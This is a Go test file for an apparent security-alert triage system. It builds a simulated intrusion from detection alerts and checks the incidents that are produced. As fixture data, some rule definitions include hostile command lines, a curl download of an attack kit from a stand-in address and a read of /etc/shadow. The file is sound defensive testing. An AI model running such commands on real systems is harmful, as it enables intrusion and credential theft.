package triage_test

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	vedette "github.com/vedette-soc/vedette"
	"github.com/vedette-soc/vedette/internal/entity"
	"github.com/vedette-soc/vedette/internal/statestore"
	"github.com/vedette-soc/vedette/internal/triage"
)

var day = time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)

func openStore(t testing.TB) *statestore.Store {
	t.Helper()
	store, err := statestore.Open(t.Context(), statestore.Config{URL: "sqlite://" + filepath.Join(t.TempDir(), "state.db")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	return store
}

func open(t testing.TB, store triage.Store, change ...func(*triage.Config)) *triage.Triage {
	t.Helper()
	cfg := triage.DefaultConfig()
	for _, fn := range change {
		fn(&cfg)
	}
	now := func() time.Time { return day.Add(12 * time.Hour) }
	tr, err := triage.New(cfg, store, entity.Networks{}, triage.Knowledge{}, now, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	return tr
}

// rule is what a test says of a detection rule.
type rule struct {
	id, title  string
	severity   vedette.Severity
	tactic     string
	techniques []string
	matched    map[string]string
}

var (
	scan     = rule{"scan", "A port that nobody uses was tried", vedette.Low, "reconnaissance", []string{"T1595.001"}, nil}
	guess    = rule{"guess", "SSH password refused", vedette.Medium, "credential-access", []string{"T1110.001"}, map[string]string{"event.outcome": "failure"}}
	login    = rule{"login", "SSH password accepted from the Internet", vedette.High, "initial-access", []string{"T1078"}, map[string]string{"event.outcome": "success"}}
	download = rule{"download", "Tool downloaded to a temporary folder", vedette.Medium, "command-and-control", []string{"T1105"}, map[string]string{"process.command_line": "curl -o /tmp/.x/kit http://198.51.100.7/kit"}}
	shadow   = rule{"shadow", "Password file read", vedette.High, "credential-access", []string{"T1003.008"}, map[string]string{"process.command_line": "cat /etc/shadow"}}
	move     = rule{"move", "Key login of a deployment account", vedette.Medium, "lateral-movement", []string{"T1021.004"}, map[string]string{"event.outcome": "success"}}
	service  = rule{"service", "Service account logged in over the network", vedette.Medium, "lateral-movement", []string{"T1078.002", "T1021.002"}, nil}
	lsass    = rule{"lsass", "Memory of LSASS dumped", vedette.High, "credential-access", []string{"T1003.001"}, nil}
	upload   = rule{"upload", "Data sent with curl", vedette.High, "exfiltration", []string{"T1048.003"}, map[string]string{"source.bytes": "2100000000"}}
	odd      = rule{"odd", "Unusual administration command", vedette.Low, "discovery", []string{"T1082"}, map[string]string{"process.command_line": "systeminfo"}}
	kerberos = rule{"kerberos", "Ticket with weak encryption", vedette.Low, "credential-access", []string{"T1558.003"}, nil}
)

func host(name string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityHost, Name: name, Role: vedette.RoleTarget}
}

func user(name string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityUser, Name: name, Role: vedette.RoleActor}
}

func from(address string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityAddress, Name: address, Role: vedette.RoleActor}
}

func target(address string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityAddress, Name: address, Role: vedette.RoleTarget}
}

func to(address string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityAddress, Name: address, Role: vedette.RoleObject}
}

func own(address string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityAddress, Name: address}
}

// script collects the alerts of a test.
type script struct {
	alerts []vedette.Alert
}

// at says that a rule fired so long after the beginning of the day about some entities.
func (s *script) at(offset time.Duration, r rule, refs ...vedette.EntityRef) *script {
	n := len(s.alerts)
	at := day.Add(offset)
	s.alerts = append(s.alerts, vedette.Alert{
		ID: fmt.Sprintf("alert-%s-%d-%d", r.id, n, offset), Tenant: vedette.DefaultTenant, Time: at, Received: at.Add(time.Second), Detected: at.Add(2 * time.Second),
		RuleID: r.id, RuleTitle: r.title, Severity: r.severity, Tactics: []string{r.tactic}, Techniques: r.techniques,
		EventID: fmt.Sprintf("%d-0", n+1), Source: "test", Matched: r.matched, Entities: refs,
	})
	return s
}

func (s *script) join(other *script) *script {
	s.alerts = append(s.alerts, other.alerts...)
	for i := range s.alerts {
		s.alerts[i].ID = fmt.Sprintf("alert-%d", i)
	}
	slices.SortStableFunc(s.alerts, func(a, b vedette.Alert) int { return a.Time.Compare(b.Time) })
	return s
}

// intrusion is one attack over several hosts; half its steps do not know the attacker's address.
func intrusion(attacker, web, webIP, db, file, drop, account string) *script {
	s := &script{}
	for i := range 12 {
		s.at(time.Duration(i)*time.Second, scan, from(attacker), target(webIP))
	}
	for i := range 40 {
		s.at(8*time.Minute+time.Duration(i)*9*time.Second, guess, host(web), from(attacker), user([]string{"root", "admin", account, "oracle"}[i%4]))
	}
	s.at(18*time.Minute, login, host(web), from(attacker), user(account))
	s.at(25*time.Minute, download, host(web), user(account), to(drop))
	s.at(35*time.Minute, shadow, host(web), user(account))
	s.at(58*time.Minute, move, host(db), from(webIP), user(account))
	s.at(71*time.Minute, service, host(file), from(webIP), user("svc_backup"))
	s.at(74*time.Minute, lsass, host(file), user("svc_backup"))
	s.at(107*time.Minute, upload, host(db), user(account), to(drop))
	return s
}

// first is the intrusion of most tests.
func first() *script {
	return intrusion("203.0.113.9", "web-01", "10.20.1.11", "db-02", "file-01", "198.51.100.7", "deploy")
}

// fold folds the alerts in batches of a size and returns them with their incidents.
func fold(t testing.TB, tr *triage.Triage, seq *uint64, alerts []vedette.Alert, size int) []vedette.Alert {
	t.Helper()
	var out []vedette.Alert
	for batch := range slices.Chunk(alerts, size) {
		*seq++
		folded, err := tr.Fold(t.Context(), *seq, batch)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, folded...)
	}
	return out
}

func incidents(t testing.TB, store *statestore.Store) []vedette.Incident {
	t.Helper()
	all, err := store.OpenIncidents(context.Background(), time.Time{}, time.Time{}, 1_000_000)
	if err != nil {
		t.Fatal(err)
	}
	slices.SortFunc(all, func(a, b vedette.Incident) int { return strings.Compare(a.ID, b.ID) })
	for i := range all {
		check(t, &all[i])
	}
	return all
}

// check holds every incident of every test to the promises of the package.
func check(t testing.TB, in *vedette.Incident) {
	t.Helper()
	sum := 0
	for _, r := range in.Reasons {
		sum += r.Points
		if r.Text.En == "" || r.Text.Zh == "" || r.Code == "" {
			t.Errorf("%s: a reason without text: %+v", in.ID, r)
		}
	}
	if sum != in.Score || in.Score < 0 || in.Score > 100 {
		t.Errorf("%s: score %d, its reasons add up to %d", in.ID, in.Score, sum)
	}
	if len(in.Evidence) > 64 || len(in.Entities) > 96 || len(in.Rules) > 64 {
		t.Errorf("%s: %d pieces of evidence, %d entities, %d rules", in.ID, len(in.Evidence), len(in.Entities), len(in.Rules))
	}
	spans := int64(0)
	for _, n := range in.Tally.Times {
		spans += n
	}
	if spans != in.Alerts || len(in.Tally.Times) > 48 || len(in.Tally.Entities) > len(in.Entities) {
		t.Errorf("%s: %d alerts, %d of them over time in %d spans, %d entities counted", in.ID, in.Alerts, spans, len(in.Tally.Times), len(in.Tally.Entities))
	}
	for i, e := range in.Evidence {
		if e.Number != i+1 || e.Count < 1 || e.Text.En == "" || e.Text.Zh == "" {
			t.Errorf("%s: evidence %+v", in.ID, e)
		}
		if i > 0 && e.Alert.Time.Before(in.Evidence[i-1].Alert.Time) {
			t.Errorf("%s: evidence %d is out of order", in.ID, e.Number)
		}
	}
	for _, text := range []string{in.Title.En, in.Title.Zh, in.Story.En, in.Story.Zh} {
		if text == "" || strings.ContainsAny(text, "\n\r\x00\x1b\u202e") {
			t.Errorf("%s: text %q", in.ID, text)
		}
	}
	cited := 0
	for i := range in.Evidence {
		if strings.Contains(in.Story.En, fmt.Sprintf("[%d]", i+1)) {
			cited++
		}
	}
	if cited == 0 || strings.Contains(in.Story.En, fmt.Sprintf("[%d]", len(in.Evidence)+1)) {
		t.Errorf("%s: the story cites %d of %d: %s", in.ID, cited, len(in.Evidence), in.Story.En)
	}
}

// parts groups the alerts by incident: the test's word for each alert, in order.
func parts(alerts []vedette.Alert) map[string][]string {
	all := make(map[string][]string)
	for _, a := range alerts {
		if list := all[a.IncidentID]; len(list) == 0 || list[len(list)-1] != a.RuleID {
			all[a.IncidentID] = append(list, a.RuleID)
		}
	}
	return all
}

func asJSON(t testing.TB, v any) string {
	t.Helper()
	b, err := json.MarshalIndent(v, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
